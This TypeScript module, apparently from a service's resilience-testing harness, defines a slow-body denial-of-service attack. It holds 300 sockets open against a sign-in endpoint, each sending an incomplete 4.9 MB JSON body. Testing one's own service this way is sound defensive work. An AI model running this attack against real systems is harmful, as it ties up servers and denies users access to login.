import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, attackerAddress, countAnswer } from './attack.ts';
import { openRaw } from './client.ts';

const SOCKETS = 300;
const BODY_BYTES = Math.floor(4.9 * 1024 * 1024);

export const openBodies: Attack = {
  title: `${SOCKETS} sockets hold JSON bodies of 4.9 MB for /api/auth/sign-in`,
  async run({ target, tally, signal }) {
    const head = [
      'POST /api/auth/sign-in HTTP/1.1',
      `Host: ${new URL(target.url).host}`,
      'Content-Type: application/json',
      `Content-Length: ${BODY_BYTES}`,
      '',
      '',
    ].join('\r\n');
    // One byte is missing, so the service waits for it.
    const body = Buffer.alloc(BODY_BYTES - 1, ' ');
    const hold = async (index: number) => {
      const { socket, status } = await openRaw(target.url, { from: attackerAddress(index), signal });
      socket.write(head);
      socket.write(body);
      countAnswer(tally, await Promise.race([status, untilAborted(signal, 'held to the end')]));
      // Attackers keep the connection as long as the service lets them.
      await Promise.race([untilAborted(signal, ''), new Promise((resolve) => socket.once('close', resolve))]);
    };
    await Promise.all(Array.from({ length: SOCKETS }, (_, index) => hold(index)));
  },
};

async function untilAborted<Value>(signal: AbortSignal, value: Value): Promise<Value> {
  await sleep(600_000, undefined, { signal, ref: false }).catch(() => {});
  return value;
}
